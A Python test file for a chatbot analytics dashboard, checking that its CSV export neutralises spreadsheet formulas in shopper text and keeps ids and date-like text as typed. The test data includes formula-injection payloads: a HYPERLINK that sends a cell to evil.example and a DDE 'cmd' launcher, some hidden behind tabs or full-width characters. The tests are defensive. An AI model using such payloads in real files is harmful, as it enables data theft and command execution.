"""The dashboard's CSV export never hands a spreadsheet a formula from what a shopper typed.
Chat text keeps tabs and line breaks (shop_channels/validation.py), and spreadsheets skip
leading blanks: "\\t=HYPERLINK(…)" went out as it was (only a first character of = + - @ was
neutralised), and so did the full-width ＝ a Chinese input method types."""
from __future__ import annotations

import csv
import io

from analytics import dashboard, store
from tests.support.analytics import DAY, T0, action, user

TYPED = ['\t=HYPERLINK("http://evil.example/?"&A1,"点我")', "\r=1+1", " =cmd|' /C calc'!A0", "\n@SUM(1)",
         "＝1+1", "＋1", "=2+3"]


def test_a_shoppers_formula_is_neutralised_in_the_csv(analytics_engine):
    with analytics_engine.begin() as connection:
        for n, text in enumerate(TYPED):
            store.ingest(connection, user(f"shopper{n}", T0 + n, text, "nlu_fallback"))
    data = dashboard.build(analytics_engine, None, DAY, DAY)
    rows = [row for row in csv.reader(io.StringIO(dashboard.to_csv(data))) if row[0] == "not_understood"]
    assert len(rows) == len(TYPED)
    for row in rows:
        assert row[1].startswith("'"), row[1]
        assert row[1][1:] in TYPED          # the text itself kept, after the quote


def test_numbers_and_plain_text_are_left_alone():
    assert dashboard._cell("-1") == "-1" and dashboard._cell("+3") == "+3" and dashboard._cell(0.25) == "0.25"
    assert dashboard._cell("查订单 -5") == "查订单 -5" and dashboard._cell(None) == ""


def test_ids_and_text_a_spreadsheet_would_turn_into_numbers_or_dates_stay_text(analytics_engine):
    """Excel opening the CSV turned an all-digit conversation id into 1.38E+10 (and dropped
    leading zeros) and a shopper's "12-1" into 1 December: such text cells start with the same
    ``'`` as a neutralised formula, so the spreadsheet keeps them as typed. Figures in the
    value column stay numbers; ordinary text is untouched."""
    typed = {"13800138000": "12-1", "0012345": "12月1日", "guest-a": "1/2", "guest-b": "查订单12",
             "guest-c": "2026120812345678"}
    with analytics_engine.begin() as connection:
        for n, (sender, text) in enumerate(typed.items()):
            # the out-of-scope answer: not understood, and the conversation unresolved
            for event in (user(sender, T0 + n, text, "out_of_scope"), action(sender, T0 + n + 0.4, "action_out_of_scope"),
                          action(sender, T0 + n + 0.5, "action_listen")):
                store.ingest(connection, event)
    data = dashboard.build(analytics_engine, None, DAY, DAY)
    rows = list(csv.reader(io.StringIO(dashboard.to_csv(data))))
    texts = {row[1] for row in rows if row[0] == "not_understood"}
    assert texts == {"'12-1", "'12月1日", "'1/2", "查订单12", "'2026120812345678"}
    ids = {row[1] for row in rows if row[0] == "unresolved"}
    assert ids == {"'13800138000", "'0012345", "guest-a", "guest-b", "guest-c"}
    assert all(not row[3].startswith("'") for row in rows[1:])      # the figures: numbers, as before
    assert [row[3] for row in rows if row[0] == "unresolved" and row[2] == "day"][0] == "2026-12-01"
